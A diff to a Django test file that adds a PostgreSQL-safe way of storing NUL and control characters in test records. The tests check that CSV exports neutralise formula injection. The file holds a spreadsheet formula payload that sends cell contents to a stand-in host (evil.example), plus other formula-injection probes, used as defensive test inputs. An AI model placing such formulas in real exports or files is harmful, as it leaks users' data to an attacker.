@@ -17,6 +17,12 @@ pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
+def _nul() -> str:
+    from django.db import connection
+
+    return "" if connection.vendor == "postgresql" else "\x00"
+
+
 def test_helper_neutralises_csv_and_round_trips():
     for text in (EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "'=1"):
         cell = exports.csv_cell(text)
@@ -32,7 +38,8 @@ def _section(unit):
     from borderdesk.frontier.models import BorderSection
 
     s = BorderSection.objects.filter(province=unit("Tỉnh Lạng Sơn")).first()
-    BorderSection.objects.filter(pk=s.pk).update(notes=EVIL + "\x00\x07")  # stored before the edge refused it
+    # stored before the edge refused it (PostgreSQL cannot store NUL at all; SQLite can)
+    BorderSection.objects.filter(pk=s.pk).update(notes=EVIL + (_nul() + "\x07"))
     return s
 
 
@@ -216,7 +223,7 @@ def test_stored_control_characters_do_not_break_drafting(users):
     from borderdesk.org.models import Committee
 
     c = Committee.objects.get(code="ls-bcdbg")
-    Committee.objects.filter(pk=c.pk).update(place_name="Lạng\x00 Sơn\x0b")
+    Committee.objects.filter(pk=c.pk).update(place_name="Lạng" + _nul() + " Sơn\x0b")
     c.refresh_from_db()
     report = services.draft_create(user=users["vanphong.ls"], committee=c, period=parse_period("2025"),
                                    report_date=dt.date(2026, 1, 5))
